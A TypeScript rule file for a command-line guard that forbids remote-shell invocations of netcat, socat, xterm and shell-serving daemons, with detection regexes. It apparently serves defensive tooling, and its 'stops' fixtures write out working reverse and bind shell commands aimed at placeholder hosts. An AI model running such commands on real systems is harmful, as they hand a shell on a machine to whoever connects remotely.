import type { ArgvRule } from '../rule.ts';

const shell = '(\\/\\S*\\/)?(ba|da|z|k|a|pwsh|power)?sh(ell)?(\\.exe)?|cmd(\\.exe)?|python\\S*|perl';

export const remoteRules: readonly ArgvRule[] = [
  {
    id: 'exec.remote-shell.netcat',
    level: 'forbid',
    say: 'Hands a shell to whoever is at the other end of a network connection.',
    tools: 'nc ncat netcat nc.traditional nc.openbsd cryptcat sbd pwncat rcat powercat',
    args: new RegExp(`(^|\\s)(-\\w*e|--exec|--sh-exec|-\\w*c|--lua-exec)[\\s=]+['"]?(${shell}|\\S+)`),
    unless: /^[^-]*(-z|-zv|-vz)\b(?!.*-e)|^-\w*[zv]\w*\s[^-]*$/,
    stops: ['nc -e /bin/sh 203.0.113.9 4444', 'ncat --exec /bin/bash -l 4444', 'nc.traditional -lvp 4444 -e /bin/sh'],
    passes: ['nc -zv db 5432', 'nc -l 9000', 'ncat --ssl host 443'],
  },
  {
    id: 'exec.remote-shell.socat',
    level: 'forbid',
    say: 'Hands a shell to whoever is at the other end of a network connection.',
    tools: 'socat',
    args: /(tcp|udp|openssl|sctp|ssl|tcp-listen|websocket)\S*:.*\b(exec|system|shell):|\b(exec|system|shell):.*(tcp|udp|openssl|sctp|ssl)\S*:/i,
    stops: [
      'socat TCP:203.0.113.9:4444 EXEC:/bin/sh',
      'socat TCP-LISTEN:4444,fork EXEC:bash',
      "socat exec:'bash -li',pty tcp:h:1",
    ],
    passes: ['socat - TCP:db:5432', 'socat TCP-LISTEN:80,fork TCP:10.0.0.1:80', 'socat -V'],
  },
  {
    id: 'exec.remote-shell.display',
    level: 'forbid',
    say: 'Opens a shell on the screen of another machine.',
    tools: 'xterm rxvt urxvt gnome-terminal',
    args: /-display[\s=]+\S+:\d/,
    stops: ['xterm -display 203.0.113.9:1', 'xterm -e sh -display evil:0', 'rxvt -display h:0'],
    passes: ['xterm -e top', 'xterm -version', 'xterm -display :0'],
  },
  {
    id: 'exec.remote-shell.login',
    level: 'forbid',
    say: 'Serves a shell without a password.',
    tools: 'telnetd in.telnetd rshd ttyd gotty shellinaboxd wetty tmate sshx gsocket gs-netcat chisel revsocks tsh',
    args: /(^|\s)(-l\s*\/bin\/\w*sh|\/bin\/\w*sh|bash|sh|--writable|-W|-F|-t|-s|client|-connect|-i)(\s|$)/,
    stops: ['telnetd -l /bin/sh -p 4444', 'ttyd -p 8080 bash', 'gotty -w bash'],
    passes: ['ttyd --version', 'tmate -V', 'chisel --help'],
  },
];
